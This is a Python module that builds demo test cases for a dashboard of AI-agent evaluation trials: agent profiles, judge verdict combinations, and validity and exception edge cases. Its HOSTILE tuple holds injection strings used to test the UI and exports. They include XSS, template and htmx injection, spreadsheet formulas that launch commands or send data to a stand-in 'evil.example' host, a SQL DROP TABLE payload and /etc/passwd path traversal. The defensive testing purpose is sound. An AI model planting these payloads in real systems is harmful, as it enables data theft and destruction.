"""The hand-written demo cases: who ran the trials, hostile text, and the case tables.

Coverage never depends on luck: every case table below is walked in a cycle whose length is
prime to the others', so 200 trials hold every gate, validity, exception, hostile-text and
long-text case, and each pair of tables mixes (`DemoPlan.cases` picks trial i's entries).
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

from rewards import rules


# --- who ran the trials -----------------------------------------------------------------------
@dataclass(frozen=True)
class AgentProfile:
    agent: str
    version: str
    model: str
    provider: str  # "" when Harbor recorded `model_info: null`
    usd_per_mtok_in: float | None  # None: the agent reports no cost (openclaw does not)
    usd_per_mtok_out: float | None

    @property
    def qualified_model(self) -> str:
        return f"{self.provider}/{self.model}" if self.provider else self.model


PROFILES: tuple[AgentProfile, ...] = (
    AgentProfile("claude-code", "2.1.104", "claude-sonnet-4-5", "anthropic", 3.0, 15.0),
    AgentProfile("openclaw", "OpenClaw 2026.5.22 (a374c3a)", "kimi-k2.6", "anthropic", None, None),
    AgentProfile("terminus-2", "2.0.0", "gpt-4o", "openai", 2.5, 10.0),
    AgentProfile("codex", "0.46.0", "gpt-5-codex", "openai", 1.25, 10.0),
    AgentProfile("openhands", "0.59.0", "qwen3.5-27b", "", None, None),
    AgentProfile("aider", "0.86.1", "deepseek-chat", "deepseek", 0.27, 1.1),
    AgentProfile("goose", "1.9.0", "gemini-2.5-pro", "google", 1.25, 10.0),
)
JUDGE_MODELS = ("glm-5.1", "claude-opus-4-1", "gpt-5-judge", "kimi-k2.6-judge")
FAILURE_MODES = (
    "incomplete_solution",
    "wrong_answer",
    "hallucinated_tool_output",
    "reward_hacking",
    "instruction_violation",
    "unit_mismatch",
    "gave_up_early",
    "over_refusal",
    "verification_skipped",
)

# --- hostile text ----------------------------------------------------------------------------
# Agent-controlled fields carry these so the UI and the exports are exercised (DESIGN §9):
# markup, script URLs, spreadsheet formulas (which only fire at the start of a cell, so each
# also *leads* some field), htmx attributes, template syntax, an RTL override, control
# characters. No NUL: PostgreSQL text and jsonb cannot hold it.
HOSTILE: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/steal?c="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"><svg/onload=alert(document.domain)>',
    '<div hx-get="/admin/" hx-trigger="load" hx-target="body">htmx injection</div>',
    "{{ request.user.password }}{% debug %}",
    "[click me](javascript:alert(1))",
    "invoice_\u202egpj.exe",
    "\x1b[31mANSI red\x1b[0m and a bell\x07",
    "'; DROP TABLE rewards_trial; --",
    "../../../../etc/passwd",
)
HOSTILE_PAYLOAD = "\n".join(HOSTILE)


# --- the case tables ---------------------------------------------------------------------------
@dataclass(frozen=True)
class GateCase:
    """What the scorers and the judge say, and the disagreement the rules must name."""

    key: str
    scorers: str  # PASS | FAIL | NA (every scorer N/A) | "" (no workspace: no scorer engine)
    judge: str  # PASS | FAIL | UNPARSEABLE | "" (no judge ran)
    advisory_fail: str = ""  # type of the advisory scorer that fails
    rejudged: bool = False  # an older verdict with the other outcome comes first
    expect: str = ""


# The edge cases every demo shows; each table below spreads them evenly among ordinary
# trials, so a first look at the explorer sees what real evaluations look like (mostly valid,
# rewards spread, disagreements and broken artifacts a visible minority) and every filter
# still finds its cases.
EDGE_GATE_CASES: tuple[GateCase, ...] = (
    GateCase("agree-pass", "PASS", "PASS"),
    GateCase("advisory-skips", "PASS", "PASS", "no_new_skips", expect=rules.ADVISORY_FAIL),
    GateCase("judge-pass-scorers-fail", "FAIL", "PASS", expect=rules.JUDGE_PASS_SCORERS_FAIL),
    GateCase("scorers-pass-judge-fail", "PASS", "FAIL", expect=rules.SCORERS_PASS_JUDGE_FAIL),
    GateCase("agree-fail", "FAIL", "FAIL"),
    GateCase("judge-unparseable", "PASS", "UNPARSEABLE"),
    GateCase("ledger-pass", "", "PASS"),
    GateCase("ledger-fail", "", "FAIL"),
    GateCase("scorers-only-fail", "FAIL", ""),
    GateCase(
        "advisory-assertions",
        "PASS",
        "PASS",
        "assertions_not_weakened",
        expect=rules.ADVISORY_FAIL,
    ),
    GateCase("rejudged-to-pass", "PASS", "PASS", rejudged=True),
    GateCase("all-scorers-na", "NA", "PASS"),
    GateCase("nothing-graded", "", ""),
    GateCase("advisory-llm-judge", "PASS", "PASS", "llm_judge", expect=rules.ADVISORY_FAIL),
    GateCase("scorers-fail-judge-unparseable", "FAIL", "UNPARSEABLE"),
    GateCase(
        "rejudged-to-fail",
        "PASS",
        "FAIL",
        rejudged=True,
        expect=rules.SCORERS_PASS_JUDGE_FAIL,
    ),
    GateCase("scorers-pass-only", "PASS", ""),
    GateCase("ledger-unparseable", "", "UNPARSEABLE"),
)
ORDINARY_GATE_CASES: tuple[GateCase, ...] = (
    GateCase("agree-pass", "PASS", "PASS"),
    GateCase("agree-pass", "PASS", "PASS"),
    GateCase("agree-fail", "FAIL", "FAIL"),
    GateCase("ledger-pass", "", "PASS"),
    GateCase("agree-pass", "PASS", "PASS"),
    GateCase("ledger-fail", "", "FAIL"),
)
VALID = "valid"
EDGE_VALIDITY_CASES: tuple[str, ...] = (
    "schema_invalid",
    "unparseable",
    "output_missing",
    "verifier_missing",
    "rejected_nonzero",
    "reward_unreadable",
    "reward_no_key",
    "reward_out_of_range",
    "reward_not_number",
)
NO_EXCEPTION = ""
EDGE_EXCEPTION_CASES: tuple[str, ...] = (
    "agent_timeout_with_reward",
    "verifier_timeout",
    "reward_file_not_found",
    "nonzero_agent_exit",
    "environment_start_timeout",
    "cancelled",
    "running",
    "pending",
)


def spread[T](edges: Sequence[T], ordinary: Sequence[T], length: int) -> tuple[T, ...]:
    """A case table of `length` entries: `edges` evenly spaced, `ordinary` cycled between."""
    table = [ordinary[n % len(ordinary)] for n in range(length)]
    for j, case in enumerate(edges):
        table[j * length // len(edges)] = case
    return tuple(table)


# Table lengths are primes (see CASE_CYCLES): 10 of 29 gate cases are ordinary agreement,
# 1 in 11 results has a validity problem, 1 in 11 trials an exception.
GATE_CASES = spread(EDGE_GATE_CASES, ORDINARY_GATE_CASES, 29)
VALIDITY_CASES = spread(EDGE_VALIDITY_CASES, (VALID,), 97)
EXCEPTION_CASES = spread(EDGE_EXCEPTION_CASES, (NO_EXCEPTION,), 89)
HOSTILE_EVERY = 8
LONG_EVERY = 7
RESULT_HISTORY_EVERY = 11
CONFIDENCE_EVERY = 3
# Trial i takes entry i (plus a per-seed offset) of each table. The lengths are pairwise
# prime (a test checks it), so by the Chinese remainder theorem every pair of entries from two
# tables meets within len(a)·len(b) consecutive trials, and the longest table (97) is the
# number of trials it takes to see every case.
CASE_CYCLES = (
    len(GATE_CASES),
    len(VALIDITY_CASES),
    len(EXCEPTION_CASES),
    HOSTILE_EVERY,
    LONG_EVERY,
    RESULT_HISTORY_EVERY,
)

# Exceptions after which the verifier never wrote a reward, and those after which nothing was
# graded at all (the agent never ran, or the run was stopped).
NO_VERIFIER = frozenset(
    {
        "verifier_timeout",
        "reward_file_not_found",
        "environment_start_timeout",
        "cancelled",
        "running",
        "pending",
    }
)
NOT_GRADED = frozenset({"environment_start_timeout", "cancelled", "running", "pending"})
